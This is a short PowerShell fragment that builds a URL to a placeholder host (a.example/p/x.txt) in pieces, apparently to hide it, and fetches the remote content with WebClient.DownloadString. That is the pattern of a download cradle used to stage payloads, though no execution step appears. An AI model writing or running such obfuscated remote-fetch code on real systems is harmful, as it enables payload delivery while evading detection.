$l=New-Object Collections.ArrayList;[void]$l.Add('http://');$l.Add('a.example')|Out-Null;$l.AddRange(@('/p','/x.txt'))
$wc = New-Object System.Net.WebClient
$wc.DownloadString(($l -join ''))
